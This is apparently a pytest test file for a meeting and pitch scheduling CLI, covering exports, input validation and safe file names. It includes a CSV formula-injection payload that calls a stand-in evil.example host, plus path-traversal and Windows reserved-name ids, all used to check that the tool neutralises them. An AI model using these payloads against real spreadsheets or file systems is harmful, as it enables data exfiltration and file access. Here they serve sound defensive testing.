"""``kbridge-schedule`` end to end on files."""

from __future__ import annotations

import csv
import io
import json

from kbridge.engine.scheduling.cli import main


def test_generate_schedule_export_and_rerun(tmp_path, capsys):
    assert (
        main(
            [
                "generate",
                "meetings",
                "--participants",
                "20",
                "--meetings",
                "30",
                "--slots",
                "6",
                "--tables",
                "3",
                "--seed",
                "3",
            ]
        )
        == 0
    )
    instance = tmp_path / "event.json"
    instance.write_text(capsys.readouterr().out)
    out, csv, ics = tmp_path / "s.json", tmp_path / "a.csv", tmp_path / "ics"
    assert (
        main(
            [
                "meetings",
                str(instance),
                "--out",
                str(out),
                "--csv",
                str(csv),
                "--ics-dir",
                str(ics),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    result = json.loads(out.read_text())
    assert result["gap"] == 0.0
    assert result["placed"] == len(result["placements"])
    assert [e["meeting_id"] for e in result["explanations"]] == result["unplaced"]
    assert result["placements"][0]["start"].endswith("+09:00")
    assert len(list(ics.glob("*.ics"))) == 20
    assert csv.read_bytes().startswith(
        b'\xef\xbb\xbf"owner","item","start","end","place","with","title"\r\n'
    )

    rerun = tmp_path / "r.json"
    assert (
        main(
            [
                "meetings",
                str(instance),
                "--previous",
                str(out),
                "--out",
                str(rerun),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    changes = json.loads(rerun.read_text())["changes"]
    assert (changes["moved"], changes["added"], changes["cancelled"]) == ([], [], [])


def test_presentations(tmp_path, capsys):
    assert (
        main(
            [
                "generate",
                "presentations",
                "--startups",
                "6",
                "--panels",
                "2",
                "--members-per-panel",
                "2",
                "--rooms",
                "2",
                "--seed",
                "1",
            ]
        )
        == 0
    )
    instance = tmp_path / "day.json"
    instance.write_text(capsys.readouterr().out)
    out = tmp_path / "day-out.json"
    assert (
        main(
            [
                "presentations",
                str(instance),
                "--out",
                str(out),
                "--csv",
                str(tmp_path / "day.csv"),
                "--time-limit",
                "10",
                "--workers",
                "1",
            ]
        )
        == 0
    )
    result = json.loads(out.read_text())
    assert len(result["pitches"]) >= 6
    assert {b["room_id"] for b in result["panels"]} == {"room0", "room1"}


def test_inconsistent_instance_exits_with_1(tmp_path, capsys):
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps(
            {
                "n_slots": 2,
                "participants": [{"id": "a"}],
                "tables": [{"id": "t"}],
                "meetings": [{"id": "m", "participants": ["a", "ghost"]}],
            }
        )
    )
    assert main(["meetings", str(bad)]) == 1
    assert "unknown participant 'ghost'" in capsys.readouterr().err


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def test_csv_agenda_neutralises_formulas_and_opens_in_excel(tmp_path):
    """Issue 10, item 1: a participant named like a formula is text in the agenda CSV, which is
    UTF-8 with a byte-order mark and CRLF line endings so Excel reads Korean correctly."""
    instance = tmp_path / "event.json"
    instance.write_text(json.dumps({
        "n_slots": 2, "start": "2026-06-10T09:00:00", "slot_minutes": 30,
        "participants": [{"id": "s1", "name": HYPERLINK}, {"id": "p1", "name": "뉴로칩스"}],
        "meetings": [{"id": "m1", "participants": ["s1", "p1"]}],
        "tables": [{"id": "t1", "name": "+82 2 1234"}],
    }), encoding="utf-8")
    out = tmp_path / "agendas.csv"
    assert main(["meetings", str(instance), "--csv", str(out), "--out", str(tmp_path / "s.json"),
                 "--time-limit", "10", "--workers", "1"]) == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 3
    assert b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    by_owner = {row[0]: row for row in rows[1:]}
    assert by_owner["p1"][4:6] == ["'+82 2 1234", "'" + HYPERLINK]
    assert by_owner["s1"][5:] == ["뉴로칩스", "1:1 meeting with 뉴로칩스"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- strict inputs and safe file names (issue 10, item 5), run as subprocesses ------------------

import subprocess  # noqa: E402
from pathlib import Path  # noqa: E402

import pytest  # noqa: E402

from kbridge.engine.scheduling.cli import main as schedule_main  # noqa: E402
from tests.engine.cli_runner import run_main, run_module  # noqa: E402

AWKWARD_IDS = [
    "A/S Korea",
    "A_S Korea",  # what "A/S Korea" sanitises to: must not share its file
    "../../etc/passwd",
    "..",
    "CON",
    "nul.txt",
    "x" * 300,
    "한국스타트업" * 30,
    "주식회사 케이브릿지",
    "Acme",
    "ACME",  # same file name on Windows/macOS
    "C:\\Windows\\evil",
]


def run_schedule(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_main(schedule_main, *args, cwd=cwd)


def test_python_m_runs_the_tool_as_an_operator_types_it(tmp_path: Path):
    refused = run_module("kbridge.engine.scheduling", "nowhere.json", cwd=tmp_path)
    assert refused.returncode != 0 and refused.stderr


def awkward_instance() -> dict:
    ids = AWKWARD_IDS
    return {
        "n_slots": len(ids),
        "start": "2026-06-10T09:00",
        "slot_minutes": 20,
        "participants": [{"id": i} for i in ids] + [{"id": "host"}],
        "tables": [{"id": "t1"}],
        "meetings": [{"id": f"m{k}", "participants": ["host", i]} for k, i in enumerate(ids)],
    }


def test_ics_dir_with_awkward_ids_writes_one_safe_file_each_inside_the_folder(tmp_path):
    (tmp_path / "event.json").write_text(json.dumps(awkward_instance(), ensure_ascii=False), "utf-8")
    out = tmp_path / "deep" / "ics"
    done = run_schedule(
        "meetings", "event.json", "--out", "s.json", "--ics-dir", str(out), "--workers", "1",
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads((tmp_path / "s.json").read_text())["placed"] == len(AWKWARD_IDS)
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file() and p.suffix == ".ics")
    assert all(p.parent == out for p in written)  # nothing escaped the folder
    assert len(written) == len(AWKWARD_IDS) + 1  # one file per person, none overwritten
    assert len({p.name.casefold() for p in written}) == len(written)
    for p in written:
        assert len(p.name.encode()) <= 120
        assert not p.name.startswith(".")
        assert p.stem.split(".")[0].split("-")[0].upper() not in {"CON", "NUL", "PRN", "AUX"}
        assert all(ch.isprintable() and ch not in '/\\:*?"<>|' for ch in p.name)
    index = json.loads((out / "index.json").read_text("utf-8"))
    assert set(index) == set(AWKWARD_IDS) | {"host"}
    assert index["주식회사 케이브릿지"] == "주식회사 케이브릿지.ics"  # Korean kept as written
    assert index["A/S Korea"] != index["A_S Korea"]
    for name in index.values():
        assert "Meetings: " in (out / name).read_text("utf-8")


def bad_meetings(**change) -> dict:
    data = {
        "n_slots": 4,
        "participants": [{"id": "a"}, {"id": "b"}],
        "tables": [{"id": "t"}],
        "meetings": [{"id": "m", "participants": ["a", "b"]}],
    }
    data.update(change)
    return data


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (json.dumps(bad_meetings(), indent=1).replace('"a"', '"\\u00a0a"', 1), "white space around it"),
        ("{\n \"n_slots\": 4,\n \"n_slots\": 5}", "event.json, line 1: the key 'n_slots' appears twice"),
        (
            json.dumps(bad_meetings(participants=[{"id": "a"}, {"id": "b"}, {"id": "a"}]), indent=1),
            "event.json, line 10: participants[2].id: id 'a' appears again (first at participants[0])",
        ),
        (
            json.dumps(bad_meetings(participants=[{"id": "a"}, {"id": " b"}]), indent=1),
            "event.json, line 7: participants[1].id: participant id ' b' has white space around it",
        ),
        (
            json.dumps(bad_meetings(participants=[{"id": "a"}, {"id": ""}, {"id": "b"}]), indent=1),
            "participants[1].id: empty participant id",
        ),
        (
            json.dumps(bad_meetings(meetings=[{"id": "m", "participants": ["a", "ghost"]}]), indent=1),
            "meetings[0].participants[1]: unknown participant 'ghost'",
        ),
        (
            json.dumps(bad_meetings(tables=[{"id": "t", "reserved_for": ["zed"]}]), indent=1),
            "tables[0].reserved_for[0]: unknown participant 'zed'",
        ),
        (
            json.dumps(bad_meetings(meetings=[{"id": "m", "participants": ["a", "b"],
                                               "locked_slot": 1, "locked_table": "t9"}])),
            "meetings[0].locked_table: unknown table 't9'",
        ),
        (json.dumps(bad_meetings(n_slots="4")), "event.json, line 1: n_slots: expected a whole number"),
        (
            json.dumps(bad_meetings(participants=[{"id": "a", "available": [0, 9]}, {"id": "b"}])),
            "participants[0].available[1]: slot 9 is outside the event (0..3)",
        ),
        (
            json.dumps(bad_meetings(meetings=[{"id": "m", "participants": ["a", "b"], "length": 1.5}])),
            "meetings[0].length: expected a whole number",
        ),
        (
            json.dumps(bad_meetings(meetings=[{"id": "m", "participants": ["a", "b"], "priority": "urgent"}])),
            "meetings[0].priority: 'urgent' is not one of",
        ),
        (json.dumps(bad_meetings(particpants=[])), "unknown key 'particpants'"),
        (json.dumps({"n_slots": 4, "participants": [], "tables": []}), "missing key 'meetings'"),
        (json.dumps(bad_meetings(participants=[["a"], {"id": "b"}])), "participants[0]: expected an object, got a list"),
        (json.dumps(bad_meetings(participants=[{"id": None}, {"id": "b"}])), "participant id must be a string"),
        (json.dumps(bad_meetings(start="10 June")), "start: '10 June' is not an ISO 8601 date-time"),
        (json.dumps(bad_meetings(breaks=[1, 1])), "breaks[1]: slot 1 appears twice"),
        ("[1, 2]", "expected a JSON object"),
        ('{"n_slots": 4,\n "participants": [\n', "event.json, line 3: not valid JSON"),
        ('{"n_slots": NaN}', "not valid JSON (NaN is not a number)"),
    ],
)
def test_malformed_meeting_instances_exit_1_with_file_and_line(tmp_path, text, message):
    (tmp_path / "event.json").write_bytes(text.encode("utf-8-sig"))
    done = run_schedule("meetings", "event.json", "--workers", "1", cwd=tmp_path)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert message in done.stderr
    assert done.stderr.startswith("kbridge-schedule: event.json") and done.stderr.count("\n") == 1
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"pitches": [{"id": "p", "startup": "s9", "panel": "P"}]}, "pitches[0].startup: unknown startup 's9'"),
        ({"panels": [{"id": "P", "members": ["j1", "j2"]}]}, "panels[0].members[1]: unknown member 'j2'"),
        ({"rooms": [{"id": "r"}, {"id": "r"}]}, "rooms[1].id: id 'r' appears again"),
        ({"startups": [{"id": "s1", "blocked": [-1]}]}, "startups[0].blocked[0]: -1 is below 0"),
        ({"pitches": [{"id": "p", "startup": "s1", "panel": "P", "length": True}]}, "expected a whole number"),
    ],
)
def test_malformed_presentation_instances_exit_1(tmp_path, change, message):
    data = {
        "n_slots": 6,
        "startups": [{"id": "s1"}],
        "members": [{"id": "j1"}],
        "panels": [{"id": "P", "members": ["j1"]}],
        "rooms": [{"id": "r"}],
        "pitches": [{"id": "p", "startup": "s1", "panel": "P"}],
    }
    data.update(change)
    (tmp_path / "day.json").write_text(json.dumps(data), "utf-8")
    done = run_schedule("presentations", "day.json", "--workers", "1", cwd=tmp_path)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert message in done.stderr and "Traceback" not in done.stderr


def test_bom_instance_and_bad_previous_file(tmp_path):
    (tmp_path / "event.json").write_bytes(json.dumps(bad_meetings()).encode("utf-8-sig"))
    done = run_schedule("meetings", "event.json", "--out", "s.json", "--workers", "1", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    previous = json.loads((tmp_path / "s.json").read_text())
    previous["placements"].append(dict(previous["placements"][0]))
    (tmp_path / "prev.json").write_bytes(json.dumps(previous, indent=1).encode("utf-8-sig"))
    done = run_schedule("meetings", "event.json", "--previous", "prev.json", cwd=tmp_path)
    assert done.returncode == 1
    assert "prev.json, line " in done.stderr
    assert "placements[1].meeting_id: meeting 'm' is placed again" in done.stderr
    assert "Traceback" not in done.stderr
    done = run_schedule("meetings", "missing.json", cwd=tmp_path)
    assert (done.returncode, "Traceback" in done.stderr) == (1, False)
    assert "missing.json: cannot read the file" in done.stderr


def test_help_documents_the_input_rules(tmp_path):
    done = run_schedule("--help", cwd=tmp_path)
    assert done.returncode == 0
    assert "byte-order mark" in done.stdout and "hash suffix" in done.stdout


def test_safe_filename_handles_what_the_cli_refuses_earlier():
    from kbridge.engine.inputs import inside, safe_filename

    taken: set[str] = set()
    names = [safe_filename(i, ".ics", taken) for i in ["a\x00b", "a\nb", "a_b", "\u202eevil", "", " . "]]
    assert len(set(names)) == len(names)
    assert all(n.isprintable() and "/" not in n and not n.startswith(".") for n in names)
    assert names[2] == "a_b.ics"
    with pytest.raises(ValueError):
        inside(Path("/tmp/out"), "../x.ics")
